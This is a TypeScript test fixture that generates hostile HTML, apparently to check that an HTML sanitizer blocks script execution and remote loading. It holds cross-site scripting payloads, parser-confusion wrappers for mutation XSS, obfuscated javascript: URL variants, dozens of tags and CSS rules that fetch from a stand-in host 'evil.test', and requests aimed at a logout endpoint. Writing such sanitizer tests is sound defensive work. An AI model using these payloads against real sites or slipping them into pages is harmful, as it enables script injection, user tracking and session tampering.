// Hostile HTML, made by crossing what runs or fetches with where it stands. Every one tells the page it is in when it runs something.

const RUN = `parent.postMessage('ran','*');top.__ran=1`
const FAR = 'http://evil.test'

/** What runs by itself when it is shown. */
const running = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${RUN}" attributeName=x to=y>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<style onload="${RUN}"></style>`,
  `<b style="animation:x 1s" onanimationstart="${RUN}">x</b><style>@keyframes x{}</style>`,
]

/** Places where HTML is read in another way, by which one reader sees text and the next one tags. */
const places: readonly ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inside.replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">${inside}`,
  (inside) => `<svg><foreignObject><p>${inside}</p></foreignObject></svg>`,
  (inside) => `<svg></p><style><a id="</style>${inside.replaceAll('"', "'")}">`,
  (inside) => `<noscript><p title="</noscript>${inside.replaceAll('"', "'")}">`,
  (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  (inside) => `<table><caption><svg><title><style></caption>${inside}</table>`,
  (inside) => `<!--><p>${inside}<!-- -->`,
  (inside) => `<template>${inside}</template><xmp>${inside}</xmp>${inside.toUpperCase().replaceAll(RUN.toUpperCase(), RUN)}`,
  (inside) => `<p title='</p>${inside.replaceAll("'", '&apos;')}'>\u0000${inside.replace('<', '<\u0000')}<![CDATA[${inside}]]>`,
]

/** What asks another server for something as soon as it is shown. */
const asking = [
  `<img src="${FAR}/a.gif">`,
  `<img src="//evil.test/b.gif">`,
  `<img srcset="${FAR}/c.gif 1x, ${FAR}/d.gif 2x">`,
  `<picture><source srcset="${FAR}/e.gif"><img src=x></picture>`,
  `<img src="${FAR}/lazy.gif" loading=eager fetchpriority=high crossorigin>`,
  `<input type=image src="${FAR}/f.gif">`,
  `<video poster="${FAR}/g.jpg" src="${FAR}/h.mp4" autoplay></video>`,
  `<audio src="${FAR}/i.mp3" autoplay></audio>`,
  `<video><track default src="${FAR}/j.vtt"><source src="${FAR}/k.mp4"></video>`,
  `<svg><image href="${FAR}/l.png" xlink:href="${FAR}/m.png"/></svg>`,
  `<svg><use href="${FAR}/n.svg#a"/></svg>`,
  `<svg><feImage href="${FAR}/o.svg"/></svg>`,
  `<svg><style>@import url(${FAR}/p.css);</style></svg>`,
  `<link rel=stylesheet href="${FAR}/q.css">`,
  `<link rel=preload as=image href="${FAR}/r.png"><link rel=prefetch href="${FAR}/s"><link rel=icon href="${FAR}/t.ico">`,
  `<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="${FAR}">`,
  `<style>@import "${FAR}/u.css"; body{background:url(${FAR}/v.png)}</style>`,
  `<style>@font-face{font-family:f;src:url(${FAR}/w.woff)}p{font-family:f}</style><p>x</p>`,
  `<div style="background:url('${FAR}/x.png')">x</div>`,
  `<div style="background-image:image-set('${FAR}/y.png' 1x)">x</div>`,
  `<div style="background:\\75 rl(${FAR}/z.png)">x</div>`,
  `<div style="background:u/**/rl(${FAR}/1.png);background:url(${FAR}/2.png)">x</div>`,
  `<div style="list-style:url(${FAR}/3.png);display:list-item">x</div>`,
  `<div style="cursor:url(${FAR}/4.cur),auto;border-image:url(${FAR}/5.png) 1">x</div>`,
  `<div style="content:url(${FAR}/6.png)">x</div>`,
  `<div style="mask:url(${FAR}/7.svg);filter:url(${FAR}/8.svg#f);clip-path:url(${FAR}/9.svg#c)">x</div>`,
  `<div style="--x:url(${FAR}/10.png);background:var(--x)">x</div>`,
  `<table background="${FAR}/11.gif"><tr><td background="${FAR}/12.gif">x</td></tr></table>`,
  `<body background="${FAR}/13.gif">x</body>`,
  `<object data="${FAR}/14"></object><embed src="${FAR}/15">`,
  `<iframe src="${FAR}/16"></iframe><frameset><frame src="${FAR}/17"></frameset>`,
  `<base href="${FAR}/"><img src="18.gif">`,
  `<meta http-equiv=refresh content="0;url=${FAR}/19">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${FAR}/20.gif">`,
  `<form action="${FAR}/21" id=f><button autofocus>x</button></form><script>f.submit()</script>`,
  `<applet codebase="${FAR}/22" code=x></applet><bgsound src="${FAR}/23">`,
  `<math href="${FAR}/24" xlink:href="${FAR}/25">x</math>`,
  `<isindex src="${FAR}/26" type=image><image src="${FAR}/27">`,
  `<a href="${FAR}/28" ping="${FAR}/29">x</a><area href="${FAR}/30">`,
  `<portal src="${FAR}/31"></portal><fencedframe src="${FAR}/32"></fencedframe>`,
  `<img src="/api/v1/login/logout"><img src="/api/v1/email/messages/1/part/1/../../../x">`,
]

/** Addresses that run something when they are followed, and ways to write them. */
const schemes = [
  `javascript:${RUN}`,
  `  JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `blob:${FAR}/x`,
  `filesystem:${FAR}/x`,
  `view-source:javascript:${RUN}`,
]
const followed = schemes.flatMap((scheme) => [
  `<a href="${scheme}" class=go>x</a>`,
  `<svg><a xlink:href="${scheme}"><text y=9>x</text></a></svg>`,
])

export const payloads: readonly string[] = [...running.flatMap((one) => places.map((place) => place(one))), ...asking, ...followed]
